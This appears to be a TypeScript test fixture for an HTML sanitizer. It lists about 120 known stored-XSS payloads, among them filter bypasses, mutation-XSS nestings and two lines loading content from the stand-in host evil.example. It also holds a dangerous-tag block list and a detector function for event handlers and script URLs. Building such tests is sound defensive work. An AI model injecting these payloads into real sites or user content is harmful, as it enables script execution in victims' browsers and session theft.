/**
 * Known stored-XSS payloads (OWASP cheat sheet, PortSwigger's list, mutation-XSS classics and
 * sanitizer bypasses), each setting window.__xss or calling alert when it runs. Their pictures are
 * uploads that do not exist (`/api/upload/x.png`, where the classics write `x`): such a picture
 * fails to load, so an error handler that survived cleaning would fire, and the server cleans the
 * payload instead of refusing it as rich text with a picture from another site.
 */
const BASE: string[] = [
  "<script>window.__xss=1</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script src=//evil.example/x.js></script>",
  "<script>/*</script><img src=/api/upload/x.png onerror=alert(1)>*/</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  "<img src=/api/upload/x.png onerror=alert(1)>",
  '<img src=/api/upload/x.png onerror="window.__xss=1">',
  "<IMG SRC=/api/upload/x.png OnErRoR=alert(1)>",
  "<img src=\"/api/upload/x.png\" onerror  =  'alert(1)'>",
  '<img/src="/api/upload/x.png"/onerror=alert(1)>',
  "<img src=/api/upload/x.png onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<img srcset=x onerror=alert(1)>",
  "<img src=/api/upload/x.png onload=alert(1)>",
  "<img src=/api/upload/x.png onmouseover=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=window.__xss=1>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><set attributeName=onmouseover to=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=/api/upload/x.png onerror=alert(1)>",
  '<math href="javascript:alert(1)">x</math>',
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="java&#x0A;script:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  "<a onmouseover=alert(1)>hover</a>",
  '<a href="#" onclick="window.__xss=1">click</a>',
  "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
  "<p onclick=alert(1)>text</p>",
  '<p style="background:url(javascript:alert(1))">text</p>',
  '<span style="x:expression(alert(1))">ie</span>',
  '<div style="behavior:url(x.htc)">x</div>',
  "<input autofocus onfocus=alert(1)>",
  "<input type=image src=x onerror=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<button onclick=alert(1)>b</button>",
  '<form action="javascript:alert(1)"><input type=submit></form>',
  "<form><button formaction=javascript:alert(1)>x</button></form>",
  "<isindex action=javascript:alert(1) type=image>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<audio autoplay onplay=alert(1)><source src=x></audio>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  "<div onpointerover=alert(1)>x</div>",
  "<div onanimationstart=alert(1) style=animation-name:x>x</div>",
  "<frameset onload=alert(1)>",
  '<applet code="javascript:alert(1)"></applet>',
  "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
  '<noscript><p title="</noscript><img src=/api/upload/x.png onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=/api/upload/x.png onerror=alert(1)>"></noembed>',
  "<template><img src=/api/upload/x.png onerror=alert(1)></template>",
  '<!--<img src="--><img src=/api/upload/x.png onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=/api/upload/x.png onerror=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<img src=/api/upload/x.png onerror=alert`1`>",
  "<img src=/api/upload/x.png onerror=window['al'+'ert'](1)>",
  "<img src=/api/upload/x.png onerror=eval(atob('YWxlcnQoMSk='))>",
  '<img src=/api/upload/x.png onerror="&#x61;lert(1)">',
  "<img src=/api/upload/x.png onerror=top[/al/.source+/ert/.source](1)>",
  '<a href="javascript:void(window.__xss=1)">void</a>',
  '<a href="\u0001javascript:alert(1)">ctrl</a>',
  '<a href="javascript\u0000:alert(1)">nul</a>',
  "<p>harmless</p><script>alert(1)</script>",
  '<a href="https://example.com" target="_blank" onclick="alert(1)">x</a>',
  "<img src=/api/upload/x.png o\u006eerror=alert(1)>",
  "<img src=/api/upload/x.png on\nerror=alert(1)>",
  "<svg><style><img src=/api/upload/x.png onerror=alert(1)></style></svg>",
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=/api/upload/x.png onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=/api/upload/x.png>">',
  '<a href="javas&Tab;cript:alert(1)">tab entity</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

export const XSS_PAYLOADS: readonly string[] = BASE;

/**
 * Payloads whose pictures come from elsewhere, or whose trick needs the picture's address: the
 * server refuses them outright (400, nothing stored) before any cleaning.
 */
export const FOREIGN_IMAGE_PAYLOADS: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "<img src=javascript:alert(1)>",
  '<img src="jav&#x09;ascript:alert(1)">',
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="https://example.com/x.png" alt="ok" onerror="alert(1)">',
  '<IMG SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "<p>text</p><img src=//evil.example/x.png onerror=alert(1)>",
];

/** Attribute values that would run script when used as a URL. */
const SCRIPT_URL = /^(javascript|vbscript|data:text\/html|data:image\/svg)/i;

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&tab;|&newline;/gi, "")
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, "&");
}

const DANGEROUS_TAGS =
  /<\s*\/?\s*(script|iframe|object|embed|svg|math|base|meta|link|style|form|input|button|textarea|select|frame|frameset|applet|body|template|noscript|video|audio|details|marquee|isindex|keygen)\b/i;

/**
 * What would run if the HTML were put into a page: script-like tags, event handler
 * attributes, srcdoc, and script URLs. Text (escaped) is not looked at, only markup.
 */
export function findExecutable(html: string): string[] {
  const problems: string[] = [];
  if (DANGEROUS_TAGS.test(html)) problems.push(`dangerous tag: ${DANGEROUS_TAGS.exec(html)?.[0]}`);
  for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi)) {
    const attributes = tag.replace(/^<[a-z0-9-]+/i, "");
    for (const match of attributes.matchAll(/([^\s"'>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const name = (match[1] ?? "").toLowerCase();
      const value = (match[2] ?? "").replace(/^["']|["']$/g, "");
      if (name.startsWith("on")) problems.push(`event handler: ${tag}`);
      if (name === "srcdoc" || name === "style") problems.push(`${name} attribute: ${tag}`);
      if (["href", "src", "action", "formaction", "xlink:href", "background", "data", "srcset"].includes(name)) {
        // eslint-disable-next-line no-control-regex
        const normalised = decodeEntities(value).replace(/[\u0000-\u0020]/g, "");
        if (SCRIPT_URL.test(normalised)) problems.push(`script URL: ${tag}`);
      }
    }
  }
  return problems;
}
